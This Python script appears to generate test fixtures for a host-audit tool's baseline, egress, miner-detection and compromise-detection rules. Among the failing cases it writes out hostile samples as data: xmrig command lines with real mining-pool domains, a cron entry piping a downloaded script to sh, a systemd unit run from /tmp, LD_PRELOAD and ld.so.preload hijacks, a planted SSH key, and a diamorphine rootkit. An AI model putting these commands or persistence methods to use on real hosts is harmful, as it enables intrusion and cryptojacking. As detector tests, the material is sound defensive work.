#!/usr/bin/env python3
"""Writes the recorded fixtures of the shipped packs: Policies/tests/<pack>/<rule>/*.json.

Each fixture is a complete facts document (base/good-host.json: a real
`hostaudit facts` capture — the firewall section read from a network namespace
loaded with base/good-host.nft, SELinux and resolver from fixture roots, the
SELinux kernel state as libselinux reports an enforcing kernel) changed in the
one place the case is about, plus recorded egress outcomes where the rule
needs them. Re-run after changing the base: python3 Policies/tests/make-fixtures.py
"""
import copy, os

import fixturelib

base = fixturelib.base()


def doc(change=None):
    return fixturelib.changed(base, change)


def write(pack, rule, name, expect, description, facts, parameters=None, egress=None):
    fixturelib.write(os.path.join(pack, rule), name, expect, description, facts, parameters, egress)


# --- selinux
def permissive(d):
    d["selinux"]["kernel"]["runtime_mode"] = "permissive"
    d["selinux"]["drift"] = [{
        "kind": "runtime-mode-differs-from-config",
        "message": "SELinux is permissive at runtime but configured enforcing: nothing is denied, only logged.",
        "configured": "enforcing", "runtime": "permissive"}]


def no_selinux(d):
    k = d["selinux"]["kernel"]
    for key in list(k):
        k[key] = None
    k.update({"enabled": False, "runtime_mode": "disabled", "errors": [], "sys_fs_selinux_present": False,
              "libselinux_enabled": False})
    d["selinux"]["config"].update({"present": False, "mode": None, "policy_type": None})
    d["selinux"]["drift"] = None


def config_enabled_kernel_disabled(d):
    no_selinux(d)
    d["selinux"]["config"].update({"present": True, "mode": "enforcing", "policy_type": "targeted"})
    d["selinux"]["drift"] = [{
        "kind": "config-enabled-kernel-disabled",
        "message": "The configuration asks for SELinux enforcing, but SELinux is disabled in the running kernel.",
        "configured": "enforcing", "runtime": "disabled"}]


def offline(d):
    d["root"] = "/mnt/image"
    d["live"] = False
    k = d["selinux"]["kernel"]
    for key in list(k):
        k[key] = None
    k["errors"] = []
    d["selinux"]["runtime_available"] = False
    d["selinux"]["runtime_unavailable_reason"] = "the kernel is not read when auditing a root directory (--root)"
    d["selinux"]["drift"] = None


write("baseline", "selinux-enforcing", "pass", "pass", "enforcing kernel", doc())
write("baseline", "selinux-enforcing", "fail", "fail", "permissive after setenforce 0", doc(permissive))
write("baseline", "selinux-enforcing", "skip-no-selinux", "skip", "kernel without SELinux", doc(no_selinux))
write("baseline", "selinux-enforcing", "skip-offline", "skip", "--root: kernel state unknown", doc(offline))
write("baseline", "selinux-no-drift", "pass", "pass", "enforcing, configured enforcing", doc())
write("baseline", "selinux-no-drift", "skip-no-config", "skip", "no SELinux config: drift unknown", doc(no_selinux))


def disabled_everywhere(d):
    no_selinux(d)
    d["selinux"]["config"].update({"present": True, "mode": "disabled", "policy_type": "targeted"})
    d["selinux"]["drift"] = []


write("baseline", "selinux-no-drift", "pass-disabled", "pass", "disabled in config and kernel", doc(disabled_everywhere))
write("baseline", "selinux-no-drift", "fail", "fail", "permissive at runtime, enforcing configured", doc(permissive))
write("baseline", "selinux-no-drift", "fail-kernel-disabled", "fail", "configured enforcing, kernel without SELinux",
      doc(config_enabled_kernel_disabled))


# --- firewall
def empty_ruleset(d):
    fw = d["firewall"]
    fw["backends"].update({"nftables": False})
    fw["summary"].update({"tables": 0, "chains": 0, "base_chains": 0, "rules": 0, "sets": 0,
                          "input_default_deny": False, "output_default_deny": False, "output_wide_open": True})
    fw["tables"], fw["rules"], fw["sets"], fw["missing_set_references"] = [], [], [], []
    for h in fw["hooks"]:
        fw["hooks"][h] = []


def input_accept(d):
    d["firewall"]["summary"]["input_default_deny"] = False
    for c in d["firewall"]["hooks"]["input"]:
        c["policy"] = "accept"


def legacy_too(d):
    d["firewall"]["backends"].update({
        "iptables_legacy": True, "legacy_tables": ["ip filter"], "conflict": True,
        "note": "legacy x_tables and nf_tables rules are both loaded: each filters packets independently, "
                "and nft does not show the legacy rules"})


def legacy_input_drop(d):
    # Only iptables-legacy: `-P INPUT DROP` in the legacy filter table, listed beside nf_tables' chains.
    empty_ruleset(d)
    fw = d["firewall"]
    fw["backends"].update({"iptables_legacy": True, "legacy_tables": ["ip filter"], "legacy_rules": 1})
    fw["summary"].update({"tables": 1, "chains": 3, "base_chains": 3, "rules": 1, "input_default_deny": True})
    fw["tables"] = [{"family": "ip", "name": "filter", "managed_by": "iptables-legacy", "dormant": False,
                     "owner": False, "chains": 3, "rules": 1, "sets": 0}]
    for hook in ("input", "forward", "output"):
        fw["hooks"][hook] = [{"family": "ip", "table": "filter", "chain": hook.upper(), "type": "filter",
                              "priority": 0, "policy": "drop" if hook != "output" else "accept",
                              "rules": 1 if hook == "input" else 0, "devices": [],
                              "ends_with_catch_all_deny": False, "legacy": True}]


def missing_set(d):
    fw = d["firewall"]
    rule = next(r for r in fw["rules"] if r["sets_referenced"])
    fw["sets"] = []
    fw["summary"]["sets"] = 0
    fw["missing_set_references"] = [{"family": rule["family"], "table": rule["table"], "chain": rule["chain"],
                                     "handle": rule["handle"], "set": rule["sets_referenced"][0]}]


def output_open(d):
    fw = d["firewall"]
    fw["summary"]["output_wide_open"] = True
    fw["rules"] = [r for r in fw["rules"] if not (r["chain"] == "output" and r["verdict"] in ("drop", "reject"))]


def unavailable(d):
    d["firewall"] = {"available": False,
                     "error": "netfilter is kernel state: not read when auditing a root directory (--root)",
                     "generation": None, "backends": None, "summary": None, "tables": [],
                     "hooks": {h: [] for h in d["firewall"]["hooks"]}, "rules": [], "sets": [],
                     "missing_set_references": []}


write("baseline", "firewall-input-default-deny", "pass", "pass", "input policy drop", doc())
write("baseline", "firewall-input-default-deny", "fail", "fail", "input policy accept", doc(input_accept))
write("baseline", "firewall-input-default-deny", "fail-empty", "fail", "no ruleset at all", doc(empty_ruleset))
write("baseline", "firewall-input-default-deny", "pass-legacy", "pass", "iptables-legacy -P INPUT DROP only",
      doc(legacy_input_drop))
write("baseline", "firewall-input-default-deny", "skip-unavailable", "skip", "--root: no netfilter state", doc(unavailable))
write("baseline", "firewall-single-backend", "pass", "pass", "nftables only", doc())
write("baseline", "firewall-single-backend", "fail", "fail", "legacy x_tables loaded as well", doc(legacy_too))
write("baseline", "firewall-no-missing-set", "pass", "pass", "every referenced set exists", doc())
write("baseline", "firewall-no-missing-set", "fail", "fail", "rule names a deleted set", doc(missing_set))
write("baseline", "firewall-output-not-wide-open", "pass", "pass", "output rejects SMTP", doc())
write("baseline", "firewall-output-not-wide-open", "fail", "fail", "nothing filtered on output", doc(output_open))
write("baseline", "firewall-output-not-wide-open", "skip-parameter", "skip", "egress control not required here",
      doc(output_open), parameters={"require-egress-control": False})


# --- resolver
def ns(addresses, used=3):
    return [{"line": i + 1, "address": a, "family": "ipv6" if ":" in a else "ipv4", "scope": None, "used": i < used}
            for i, a in enumerate(addresses)]


def nameservers(addresses):
    def change(d):
        rc = d["resolver"]["resolv_conf"]
        rc["nameservers"] = ns(addresses)
        rc["ignored_nameservers"] = addresses[3:]
        d["resolver"]["effective_nameservers"] = [
            {"address": n["address"], "family": n["family"], "scope": None, "path": "/etc/resolv.conf", "line": n["line"]}
            for n in rc["nameservers"] if n["used"]]
    return change


def no_nameservers(d):
    nameservers([])(d)
    d["resolver"]["effective_nameservers"] = [
        {"address": "127.0.0.1", "family": "ipv4", "scope": None, "path": None, "line": None}]
    d["resolver"]["effective_nameservers_source"] = "glibc-default"
    d["resolver"]["effective_nameservers_note"] = "resolv.conf has no usable nameserver line: glibc falls back to 127.0.0.1"


def immutable(d):
    d["resolver"]["resolv_conf"]["immutable"] = True


def attributes_unknown(d):
    d["resolver"]["resolv_conf"]["immutable"] = None
    d["resolver"]["resolv_conf"]["append_only"] = None
    d["resolver"]["resolv_conf"]["attributes_error"] = "ioctl(FS_IOC_GETFLAGS): Operation not supported"


write("baseline", "resolver-nameserver-configured", "pass", "pass", "two name servers", doc())
write("baseline", "resolver-nameserver-configured", "fail", "fail", "resolv.conf without nameserver lines",
      doc(no_nameservers))
write("baseline", "resolver-at-most-three-nameservers", "pass", "pass", "two name servers", doc())
write("baseline", "resolver-at-most-three-nameservers", "fail", "fail", "five: the last two are never asked",
      doc(nameservers(["192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4", "192.0.2.5"])))
write("baseline", "resolver-no-public-resolver", "pass", "pass", "private host, private servers", doc(),
      parameters={"private-resolvers": True})
write("baseline", "resolver-no-public-resolver", "fail", "fail", "private host, Google DNS configured",
      doc(nameservers(["10.0.0.2", "8.8.8.8"])), parameters={"private-resolvers": True})
write("baseline", "resolver-no-public-resolver", "skip-default", "skip", "host not declared private",
      doc(nameservers(["8.8.8.8"])))
write("baseline", "resolv-conf-not-immutable", "pass", "pass", "no attributes", doc())
write("baseline", "resolv-conf-not-immutable", "fail", "fail", "chattr +i", doc(immutable))
write("baseline", "resolv-conf-not-immutable", "error-unknown", "error", "attributes unreadable: unknown, not a guess",
      doc(attributes_unknown))

# --- egress
mirror_open = {"target": "http://deb.debian.org/debian", "host": "deb.debian.org", "address": "199.232.170.132",
               "port": 80, "protocol": "tcp", "state": "open", "reason": "syn-ack", "elapsed_ms": 12,
               "syn_retransmits": 0, "icmp_reachable": None, "local_verdict": None, "cause": "none",
               "explanation": "the port answered", "related_findings": []}
mirror_filtered = dict(mirror_open, state="filtered", reason="no-response", elapsed_ms=3001, syn_retransmits=2,
                       icmp_reachable=True,
                       local_verdict={"verdict": "accept", "hook": "output", "table": "inet filter", "chain": "output",
                                      "handle": None, "rule": None, "traced": False},
                       cause="upstream-filter",
                       explanation="The local ruleset accepts this flow and the host answers ping, but the SYN got no "
                                   "answer: something upstream (a provider or cloud security group) drops TCP 80.")
write("egress", "package-sources-reachable", "pass", "pass", "the mirror answers", doc(),
      egress={"probes": [{"target": "package-sources", "outcomes": [mirror_open]}]})
write("egress", "package-sources-reachable", "fail", "fail", "filtered upstream; explained", doc(),
      egress={"probes": [{"target": "package-sources", "outcomes": [mirror_filtered]}]})
write("egress", "package-sources-reachable", "pass-one-address-open", "pass",
      "first address filtered, the next open (apt falls back)", doc(),
      egress={"probes": [{"target": "package-sources", "outcomes": [mirror_filtered, dict(mirror_open, address="151.101.2.132")]}]})
write("egress", "package-sources-reachable", "error-no-sources", "error", "no package sources found", doc(),
      egress={"probes": [{"target": "package-sources", "outcomes": []}]})


def verdicts(v4, v6, rule="tcp dport 25 counter reject"):
    def one(dst, verdict):
        decided = {"table": "inet filter", "chain": "output", "handle": 5, "rule": rule} if verdict != "accept" else None
        return {"flow": {"dst": dst, "dport": 25, "proto": "tcp"}, "verdict": verdict, "decided_by": decided,
                "path": [], "traced": False, "notes": []}
    return {"verdicts": [one("192.0.2.25", v4), one("2001:db8::25", v6)]}


write("egress", "outbound-smtp-blocked", "pass", "pass", "rejected on output", doc(), egress=verdicts("reject", "reject"))
write("egress", "outbound-smtp-blocked", "fail", "fail", "IPv6 SMTP leaves (rule only for IPv4)", doc(),
      egress=verdicts("reject", "accept"))
write("egress", "outbound-smtp-blocked", "skip-mail-server", "skip", "a mail server may send SMTP", doc(),
      parameters={"allow-outbound-smtp": True}, egress=verdicts("accept", "accept"))


# --- miners and compromise packs
# The process, socket and kernel sections of a clean live host, built from the
# shapes `hostaudit facts processes|sockets|kernel --format json` prints; the
# persistence section is a real capture of Tests/Fixtures/roots/persist-clean
# (base/persistence-clean.json) with the live-only values filled in.
persistence_clean = fixturelib.base("persistence-clean.json")


def path_fact(path, deleted=False, memfd=None):
    if memfd is None:
        memfd = path.startswith("/memfd:")
    parts = path.split("/")
    temp = any(path.startswith(p) for p in ("/tmp/", "/var/tmp/", "/dev/shm/"))
    dot = any(c.startswith(".") and c not in (".", "..") for c in parts[:-1])
    return {"path": path, "path_b64": None, "deleted": deleted, "memfd": memfd, "in_temp_dir": temp, "in_dot_dir": dot}


def proc(pid, ppid, comm, args, exe=None, deleted=False, kthread=False, uid=0, cpu=0.5, environ=None,
         sockets=None, fake=None):
    flags = 0x00208040 if kthread else 0x00400100
    name_like = kthread or comm.startswith("[") or (args and args[0].startswith("[") and args[0].endswith("]"))
    reasons = []
    if fake is None and name_like:
        if exe:
            reasons.append("has-exe")
        if not (ppid == 2 or (pid == 2 and ppid == 0)):
            reasons.append("parent-not-kthreadd")
        if not kthread:
            reasons.append("no-kthread-flag")
        if args:
            reasons.append("has-cmdline")
    length = sum(len(a.encode()) + 1 for a in args)
    ids = {"real": uid, "effective": uid, "saved": uid, "fs": uid}
    return {
        "pid": pid, "ppid": ppid, "state": "I" if kthread else "S", "comm": comm, "comm_b64": None,
        "cmdline": {"args": args, "args_b64": None, "argc": len(args), "length": length, "truncated": False,
                    "kept_bytes": length},
        "exe": path_fact(exe, deleted) if exe else None, "cwd": None if kthread else path_fact("/"),
        "uids": ids, "gids": ids, "threads": 1, "flags": flags, "kernel_thread": kthread,
        "kernel_thread_name": bool(name_like), "fake_kernel_thread": bool(reasons),
        "fake_kernel_thread_reasons": reasons, "start_time_ms": 1795620615250 + pid * 10, "start_ticks": 25 + pid,
        "cpu": {"user_ticks": 500, "system_ticks": 100, "seconds": 6.0, "percent": cpu}, "parent_listed": True,
        "environ": None if kthread else {"variables": environ or [], "count": 12, "truncated": False},
        "maps": None if kthread else {"shared_objects": 8, "suspicious_libraries": [], "anonymous_executable": [],
                                       "anonymous_executable_count": 0, "deleted_executable": []},
        "socket_inodes": None if kthread else (sockets or []), "fd_count": None if kthread else 8, "unreadable": []}


def sock(state, lport, raddr, rport, owners, proto="tcp", inode=1000):
    return {"protocol": proto, "family": "ipv4", "state": state, "local_address": "10.0.0.5", "local_port": lport,
            "remote_address": raddr, "remote_port": rport, "interface": 0, "uid": 0, "inode": inode,
            "receive_queue": 0, "send_queue": 0, "pids": [o[0] for o in owners],
            "processes": [{"pid": p, "comm": c, "comm_b64": None} for p, c in owners]}


def clean_host(d):
    d["processes"] = {
        "available": True, "unavailable_reason": None, "proc_root": "/proc", "privileged": True,
        "clock_ticks_per_second": 100, "boot_time": 1795620615, "count": 0, "vanished": 0, "with_unreadable": 0,
        "list": [
            proc(1, 0, "systemd", ["/sbin/init"], exe="/usr/lib/systemd/systemd"),
            proc(2, 0, "kthreadd", [], kthread=True),
            proc(50, 2, "kworker/0:1-events", [], kthread=True),
            proc(51, 2, "kswapd0", [], kthread=True),
            proc(800, 1, "sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], exe="/usr/sbin/sshd",
                 sockets=[1001]),
            proc(900, 1, "postgres", ["postgres: checkpointer"], exe="/usr/lib/postgresql/16/bin/postgres", uid=112),
            proc(950, 1, "java", ["/usr/bin/java", "-Xmx2g", "-jar", "/opt/app/app.jar"], exe="/usr/lib/jvm/bin/java",
                 uid=1000, cpu=180.0, sockets=[1002],
                 environ=[{"name": "LD_PRELOAD", "value": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
                           "value_b64": None}]),
        ],
        "cpu": {"interval_seconds": 0.5, "cpus": 2, "host_busy_ticks": 58, "process_ticks": 55,
                "host_busy_percent": 58.59, "process_percent": 55.56, "unaccounted_percent": 3.03,
                "processes_sampled": 7},
        "hidden_sweep": {"pid_max": 32768, "alive": 133, "threads": 46, "listed": 87, "hidden": [], "raced": 0,
                         "duration_ms": 17.6},
        "errors": []}
    d["sockets"] = {
        "available": True, "unavailable_reason": None, "netns": "net:[4026531840]", "privileged": True, "count": 0,
        "list": [sock("LISTEN", 22, "0.0.0.0", 0, [(800, "sshd")], inode=1001),
                 # A pool port used by an ordinary service: no miner evidence.
                 sock("ESTABLISHED", 41000, "10.0.0.9", 4444, [(950, "java")], inode=1002)],
        "errors": []}
    d["kernel"] = {"available": True, "unavailable_reason": None,
                   "taint": {"value": 0, "letters": "", "flags": []},
                   "modules": [{"name": "nf_tables", "size": 372736, "refcount": 3, "used_by": ["nft_ct"],
                                "state": "Live", "taint": ""}],
                   "hidden_modules": [], "errors": []}
    p = copy.deepcopy(persistence_clean)
    p["live"] = True
    k = p["kernel"]
    k["runtime_read"] = True
    k["runtime_unavailable_reason"] = None
    k["nr_hugepages"]["runtime"] = {"value": "0", "source": "/proc/sys/vm/nr_hugepages",
                                    "path": "/proc/sys/vm/nr_hugepages", "line": None, "runtime": True}
    k["nmi_watchdog"]["runtime"] = {"value": "1", "source": "/proc/sys/kernel/nmi_watchdog",
                                    "path": "/proc/sys/kernel/nmi_watchdog", "line": None, "runtime": True}
    k["msr"]["module_loaded"] = False
    p["cloud_agents"]["process_scan"] = {"performed": True, "reason": None, "processes": 7, "unreadable": 0}
    for a in p["cloud_agents"]["agents"]:
        a["running"] = False
    d["persistence"] = p
    for section in ("processes", "sockets"):
        d[section]["count"] = len(d[section]["list"])


def host(*changes):
    def apply(d):
        clean_host(d)
        for c in changes:
            c(d)
    return doc(apply)


def add_proc(*ps):
    def c(d):
        d["processes"]["list"].extend(ps)
        d["processes"]["count"] = len(d["processes"]["list"])
    return c


def add_sock(*ss):
    def c(d):
        d["sockets"]["list"].extend(ss)
        d["sockets"]["count"] = len(d["sockets"]["list"])
    return c


WALLET = "4" + "8" + "A" * 93
xmrig = proc(4242, 1, "xmrig", ["./xmrig", "-o", "pool.supportxmr.com:3333", "-u", WALLET, "--donate-level", "1",
                                 "-a", "rx/0"], exe="/opt/xmrig/xmrig", uid=33, cpu=190.0, sockets=[3001])
renamed = lambda args, cpu=0.5: proc(4300, 1, "httpd-worker", args, exe="/usr/local/bin/httpd-worker", uid=33, cpu=cpu)
fake_kworker = proc(4242, 1, "kworker/0:2", ["[kworker/0:2]"], exe="/tmp/.x/kdevtmpfsi", deleted=True, uid=33, cpu=195.0)

M = "miners"
write(M, "miner-process-name", "pass", "pass", "clean host", host())
write(M, "miner-process-name", "fail", "fail", "xmrig running", host(add_proc(xmrig)))
write(M, "miner-process-name", "fail-kdevtmpfsi", "fail", "Kinsing's kdevtmpfsi under its own name",
      host(add_proc(proc(4400, 1, "kdevtmpfsi", ["/tmp/kdevtmpfsi"], exe="/tmp/kdevtmpfsi", uid=33))))
write(M, "miner-stratum-url", "pass", "pass", "clean host", host())
write(M, "miner-stratum-url", "fail", "fail", "renamed miner with a stratum URL",
      host(add_proc(renamed(["httpd-worker", "-o", "stratum+tcp://203.0.113.9:3333"]))))
write(M, "miner-command-line-flags", "pass", "pass", "clean host (java with ordinary flags)", host())
write(M, "miner-command-line-flags", "fail", "fail", "renamed miner with --donate-level and a pool URL",
      host(add_proc(renamed(["httpd-worker", "--donate-level=1", "-o", "mine.pool.example:14444"]))))
write(M, "miner-algorithm-argument", "pass", "pass", "clean host", host())
write(M, "miner-algorithm-argument", "fail", "fail", "renamed miner with -a rx/0",
      host(add_proc(renamed(["httpd-worker", "-a", "rx/0"]))))
write(M, "miner-wallet-argument", "pass", "pass", "clean host", host())
write(M, "miner-wallet-argument", "fail", "fail", "renamed miner with a Monero wallet",
      host(add_proc(renamed(["httpd-worker", "-u", WALLET + ".rig1"]))))
write(M, "miner-pool-domain-argument", "pass", "pass", "clean host", host())
write(M, "miner-pool-domain-argument", "fail", "fail", "renamed miner pointed at gulf.moneroocean.stream",
      host(add_proc(renamed(["httpd-worker", "--url=gulf.moneroocean.stream:10128"]))))
write(M, "miner-pool-port-connection", "pass", "pass",
      "a connection to port 4444 by an ordinary service, no miner evidence", host())
write(M, "miner-pool-port-connection", "fail", "fail", "xmrig connected to a pool port",
      host(add_proc(xmrig), add_sock(sock("ESTABLISHED", 41010, "203.0.113.9", 3333, [(4242, "xmrig")], inode=3001))))


def hosts_pool(d):
    d["persistence"]["hosts"]["matches"] = [{"line": 2, "address": "203.0.113.9", "name": "pool.minexmr.com",
                                             "suffix": "minexmr.com", "list": "pool", "points_to": "other"}]


write(M, "miner-pool-port-connection", "fail-hosts-domain", "fail",
      "an unnamed process connected to port 14444 while /etc/hosts pins a pool domain",
      host(hosts_pool, add_sock(sock("ESTABLISHED", 41011, "203.0.113.9", 14444, [], inode=3002))))
write(M, "miner-sustained-cpu", "pass", "pass", "a busy JVM (180% CPU) without miner indicators", host())
write(M, "miner-sustained-cpu", "fail", "fail", "a fake kworker from /tmp at 195% CPU", host(add_proc(fake_kworker)))


def no_cpu(d):
    d["processes"]["cpu"] = None


write(M, "miner-sustained-cpu", "skip-no-sample", "skip", "CPU not sampled (--cpu-interval 0)", host(no_cpu))


def hugepages(d):
    d["persistence"]["kernel"]["nr_hugepages"]["runtime"]["value"] = "1280"


def msr_writes(d):
    m = d["persistence"]["kernel"]["msr"]
    m["module_loaded"] = True
    m["allow_writes"]["runtime"] = {"value": "on", "source": "/sys/module/msr/parameters/allow_writes",
                                    "path": "/sys/module/msr/parameters/allow_writes", "line": None, "runtime": True}


write(M, "miner-hugepages-with-miner-process", "pass", "pass",
      "a database host with 1280 hugepages and no miner", host(hugepages))
write(M, "miner-hugepages-with-miner-process", "fail", "fail", "hugepages reserved and xmrig running",
      host(hugepages, add_proc(xmrig)))
write(M, "miner-msr-with-miner-process", "pass", "pass", "msr writable for a monitoring tool, no miner",
      host(msr_writes))
write(M, "miner-msr-with-miner-process", "fail", "fail", "msr allow_writes=on and xmrig running",
      host(msr_writes, add_proc(xmrig)))

C = "compromise"
upgraded = proc(1200, 1, "dockerd", ["/usr/bin/dockerd", "-H", "fd://"], exe="/usr/bin/dockerd", deleted=True)
container = proc(1300, 1290, "nginx", ["nginx: master process nginx -g daemon off;"], exe="/usr/sbin/nginx",
                 deleted=True, uid=0)
runc = proc(1400, 1390, "runc:[2:INIT]", ["runc", "init"], exe="/memfd:runc_cloned:/proc/self/exe", deleted=True)
write(C, "exe-deleted", "pass", "pass", "clean host", host())
write(C, "exe-deleted", "pass-upgraded-binary", "pass", "dockerd still running its pre-upgrade binary",
      host(add_proc(upgraded)))
write(C, "exe-deleted", "pass-container", "pass", "a container's nginx whose image binary shows as deleted",
      host(add_proc(container)))
write(C, "exe-deleted", "fail", "fail", "a binary deleted from the web user's home after start",
      host(add_proc(proc(4500, 1, "sshd", ["sshd"], exe="/var/www/html/sshd", deleted=True, uid=33))))
write(C, "exe-memfd", "pass", "pass", "clean host", host())
write(C, "exe-memfd", "pass-runc", "pass", "runc re-executing itself from a memfd", host(add_proc(runc)))
write(C, "exe-memfd", "fail", "fail", "fileless payload",
      host(add_proc(proc(4600, 1, "python3", ["python3"], exe="/memfd:payload", deleted=True, uid=33))))
write(C, "exe-in-temp-or-dot-dir", "pass", "pass", "clean host", host())
write(C, "exe-in-temp-or-dot-dir", "pass-go-build", "pass", "go test binary under /tmp/go-build",
      host(add_proc(proc(4700, 4690, "app.test", ["/tmp/go-build123456/b001/app.test"],
                         exe="/tmp/go-build123456/b001/app.test", uid=1000))))
write(C, "exe-in-temp-or-dot-dir", "pass-build-dir", "pass", "a SwiftPM build product in a checkout",
      host(add_proc(proc(4702, 4690, "hostaudit", [".build/debug/hostaudit"],
                         exe="/home/dev/src/hostaudit/.build/x86_64-unknown-linux-gnu/debug/hostaudit", uid=1000))))
write(C, "exe-in-temp-or-dot-dir", "fail", "fail", "a binary under /dev/shm",
      host(add_proc(proc(4800, 1, "upd", ["/dev/shm/upd"], exe="/dev/shm/upd", uid=33))))
write(C, "exe-in-temp-or-dot-dir", "fail-dot-dir", "fail", "a binary in a hidden directory",
      host(add_proc(proc(4801, 1, "init0", ["init0"], exe="/var/lib/.rsync/a/init0", uid=33))))
write(C, "fake-kernel-thread", "pass", "pass", "real kernel threads (kthreadd, kworker, kswapd0)", host())
write(C, "fake-kernel-thread", "fail", "fail", "a miner named [kworker/0:2]", host(add_proc(fake_kworker)))
write(C, "ld-preload-in-environment", "pass", "pass", "a JVM preloading jemalloc", host())
write(C, "ld-preload-in-environment", "fail", "fail", "a process preloading /etc/libsystem.so",
      host(add_proc(proc(4900, 1, "bash", ["bash"], exe="/usr/bin/bash", uid=33,
                         environ=[{"name": "LD_PRELOAD", "value": "/etc/libsystem.so", "value_b64": None}]))))


def preload(d):
    l = d["persistence"]["ld_so_preload"]
    l.update({"present": True, "mtime_ms": 1795626623518, "size": 18, "immutable": False, "append_only": False,
              "entries": [{"line": 1, "library": "/etc/libsystem.so", "exists": True, "found_at": None}]})


def preload_empty(d):
    d["persistence"]["ld_so_preload"].update({"present": True, "size": 0, "immutable": False, "append_only": False})


write(C, "ld-so-preload-present", "pass", "pass", "no /etc/ld.so.preload", host())
write(C, "ld-so-preload-present", "pass-empty", "pass", "an empty /etc/ld.so.preload", host(preload_empty))
write(C, "ld-so-preload-present", "fail", "fail", "ld.so.preload loads libsystem.so", host(preload))


def hidden_pid(d):
    d["processes"]["hidden_sweep"]["hidden"] = [{"pid": 31337, "seen_by": ["kill", "getsid", "getpgid"],
                                                 "comm": None, "ppid": None}]


def no_sweep(d):
    d["processes"]["hidden_sweep"] = None


write(C, "hidden-process", "pass", "pass", "the sweep found nothing hidden", host())
write(C, "hidden-process", "fail", "fail", "a pid answers signals but is not in /proc", host(hidden_pid))
write(C, "hidden-process", "skip-no-sweep", "skip", "sweep not run", host(no_sweep))


def diamorphine(d):
    d["kernel"]["hidden_modules"] = [{"name": "diamorphine", "initstate": "live", "sections": [".data", ".text"],
                                      "taint": "OE"}]


def taint_oe(d):
    d["kernel"]["taint"] = {"value": 12288, "letters": "OE", "flags": [
        {"bit": 12, "letter": "O", "description": "externally-built (out-of-tree) module was loaded"},
        {"bit": 13, "letter": "E", "description": "unsigned module was loaded"}]}


def taint_warning(d):
    d["kernel"]["taint"] = {"value": 512, "letters": "W", "flags": [
        {"bit": 9, "letter": "W", "description": "kernel issued warning"}]}


def rootkit_module(d):
    d["kernel"]["modules"].append({"name": "diamorphine", "size": 16384, "refcount": 0, "used_by": [],
                                   "state": "Live", "taint": "OE"})


write(C, "hidden-kernel-module", "pass", "pass", "every module listed", host())
write(C, "hidden-kernel-module", "fail", "fail", "diamorphine unlinked from /proc/modules", host(diamorphine))
write(C, "rootkit-module-loaded", "pass", "pass", "only nf_tables", host())
write(C, "rootkit-module-loaded", "fail", "fail", "diamorphine listed", host(rootkit_module))
write(C, "kernel-tainted-by-module", "pass", "pass", "untainted kernel", host())
write(C, "kernel-tainted-by-module", "pass-warning", "pass", "tainted by a warning only", host(taint_warning))
write(C, "kernel-tainted-by-module", "fail", "fail", "out-of-tree unsigned module loaded", host(taint_oe))


def cron_line(d):
    f = d["persistence"]["cron"]["files"][0]
    f["entries"].append({"line": 12, "schedule": "*/5 * * * *", "frequent": True, "user": "root", "delay": None,
                         "job_identifier": None, "command": "curl -fsSL http://203.0.113.10/pm.sh | sh",
                         "indicators": [{"indicator": "download-pipe-shell",
                                         "match": "curl -fsSL http://203.0.113.10/pm.sh | sh"}]})


write(C, "cron-download-and-run", "pass", "pass", "stock crontabs", host())
write(C, "cron-download-and-run", "fail", "fail", "curl | sh every five minutes", host(cron_line))


def unit_temp(d):
    d["persistence"]["systemd"]["units"].append({
        "name": "sysupdate.service", "path": "/etc/systemd/system/sysupdate.service", "scope": "system",
        "user": None, "drop_in": False, "link_target": None, "masked": False,
        "resolved_path": "/etc/systemd/system/sysupdate.service", "mtime_ms": 1795626623519, "enabled": True,
        "enabled_by": ["/etc/systemd/system/multi-user.target.wants/sysupdate.service"], "description": "update",
        "execs": [{"line": 5, "key": "ExecStart", "prefixes": "", "program": "/tmp/.sys/sysupdate",
                   "command_line": "/tmp/.sys/sysupdate", "program_location": "temp",
                   "indicators": [{"indicator": "exec-from-temp", "match": "/tmp/.sys/sysupdate"}]}],
        "indicators": [], "error": None, "problems": []})


write(C, "systemd-unit-exec-from-temp", "pass", "pass", "stock units", host())
write(C, "systemd-unit-exec-from-temp", "fail", "fail", "a unit running /tmp/.sys/sysupdate", host(unit_temp))

PLANTED = "SHA256:Nb4yipWizohq2esFuw6IcOwMUgkT1IDytHEp5TapZ5M"
ADMIN = "SHA256:2rZiQKYiwH26UBNs0w+IRY2Vz6DzyZxr7/wdc7Zq67w"


def planted_key(options):
    def c(d):
        f = d["persistence"]["authorized_keys"][0]
        f["keys"].append({"line": 3, "type": "ssh-rsa", "fingerprint": PLANTED, "bits": 3072, "comment": "planted",
                          "options": options, "blob_type": None})
    return c


allow = {"restrict-authorized-keys": True, "allowed-key-fingerprints": [ADMIN]}
write(C, "authorized-keys-forced-command", "pass", "pass", "one admin key without options", host())
write(C, "authorized-keys-forced-command", "fail", "fail", "a key with command=",
      host(planted_key([{"name": "command", "value": "/tmp/.x/run"}])))
write(C, "authorized-keys-unknown-key", "pass", "pass", "only the allowed admin key", host(), parameters=allow)
write(C, "authorized-keys-unknown-key", "fail", "fail", "a planted key", host(planted_key([])), parameters=allow)
write(C, "authorized-keys-unknown-key", "skip-not-restricted", "skip", "no allow-list configured",
      host(planted_key([])))


def immutable_passwd(d):
    for f in d["persistence"]["file_attributes"]:
        if f["path"] == "/etc/passwd":
            f["immutable"] = True


write(C, "sensitive-file-immutable", "pass", "pass", "no immutable files", host())
write(C, "sensitive-file-immutable", "fail", "fail", "chattr +i /etc/passwd", host(immutable_passwd))


def hosts_vendor(d):
    d["persistence"]["hosts"]["matches"] = [{"line": 3, "address": "198.51.100.7", "name": "update.aegis.aliyun.com",
                                             "suffix": "aegis.aliyun.com", "list": "security-vendor",
                                             "points_to": "other"}]


write(C, "hosts-pool-or-vendor-domain", "pass", "pass", "stock /etc/hosts", host())
write(C, "hosts-pool-or-vendor-domain", "fail", "fail", "Aegis update host redirected", host(hosts_vendor))
write(C, "hosts-pool-or-vendor-domain", "fail-pool", "fail", "pool domain pinned", host(hosts_pool))


def aegis(running):
    def c(d):
        for a in d["persistence"]["cloud_agents"]["agents"]:
            if a["id"] == "alibaba-aegis":
                a.update({"installed": True, "evidence": ["/usr/local/aegis"], "running": running,
                          "processes": [{"pid": 700, "comm": "AliYunDun", "exe": "/usr/local/aegis/aegis_client/AliYunDun"}]
                          if running else []})
    return c


write(C, "cloud-agent-not-running", "pass", "pass", "Aegis installed and running", host(aegis(True)))
